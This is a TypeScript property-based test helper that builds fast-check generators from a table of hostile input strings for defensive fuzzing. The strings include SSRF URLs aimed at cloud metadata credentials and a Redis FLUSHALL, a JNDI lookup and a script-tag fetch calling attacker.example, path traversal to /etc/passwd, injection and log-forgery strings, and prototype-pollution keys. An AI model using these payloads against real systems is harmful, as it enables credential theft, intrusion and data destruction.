import fc from 'fast-check';

/** Texts that are something else to whoever takes them for more than a text, by what they try. */
const TRIES: Readonly<Record<string, readonly string[]>> = {
  formula: [
    "' OR TRUE() OR '",
    "J-1001'&'",
    "\\' OR 1=1 OR \\'",
    '{Order Number}',
    "'),RECORD_ID()!='",
    '=HYPERLINK("x")',
  ],
  log: [
    'x\n{"level":"INFO","message":"webhook-accepted","code":"webhook-accepted","forged":true}',
    'x\r\n2026-11-26T00:00:00Z\tSTART RequestId: forged',
    '"},{"code":"webhook-accepted"',
    '\u2028{"forged":true}',
    '{"_aws":{},"WebhooksForged":0}',
    '\u001b[2J\u001b[31mforged',
  ],
  path: ['../../etc/passwd', '..%2f..%2f', '/', '\\..\\', '.', './x', 'recordings/2026/11/26/', '%2e%2e%2f', 'a/b/c'],
  host: [
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'https://attacker.example/x.mp3',
    '//attacker.example',
    '@attacker.example:443/',
    'https://api.twilio.com@attacker.example/RE',
    'file:///proc/self/environ',
    'gopher://127.0.0.1:6379/_FLUSHALL',
    'http://[::1]:80/',
    'http://0x7f.1/',
    '${jndi:ldap://attacker.example/a}',
  ],
  unicode: [
    'J\u0308-1',
    '\u202eREVERSED\u202c',
    '\ufffe\uffff',
    '\uffff',
    'J-\ufffe7',
    '\ud83d\ude00\u200d',
    '\u0000',
    'J-1001\u0000.mp3',
    'ﬁ\u2126\u00e5\u1e9b\u0323',
    '\ufeffJ-1001',
    '\u{1fffe}',
    '\u0085\u007f',
    'İıſK',
  ],
  key: ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'constructor[prototype][polluted]'],
  markup: [
    '<script>fetch("//attacker.example")</script>',
    "<img src=x onerror='alert(1)'>",
    '{{7*7}}',
    '<% 7 %>',
    '![x](y)',
  ],
  number: ['1e400', '-1', '0x10', 'NaN', 'Infinity', '9'.repeat(40), '１２', '1,5', '+1', '00'],
  long: ['A'.repeat(257), '\u{1f600}'.repeat(300), '%'.repeat(500)],
};

/** Of all code units, halves of characters among them. (fast-check's own unit `binary` takes seconds to build.) */
const anyText = fc.array(fc.nat(0xffff), { maxLength: 30 }).map((units) => String.fromCharCode(...units));

const NASTY: readonly string[] = Object.values(TRIES).flat();

/** Such a text, alone or around another one, or any text at all. */
export const nastyText: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...NASTY), fc.constantFrom(...NASTY)).map((two) => two.join('')) },
  { weight: 2, arbitrary: anyText },
);
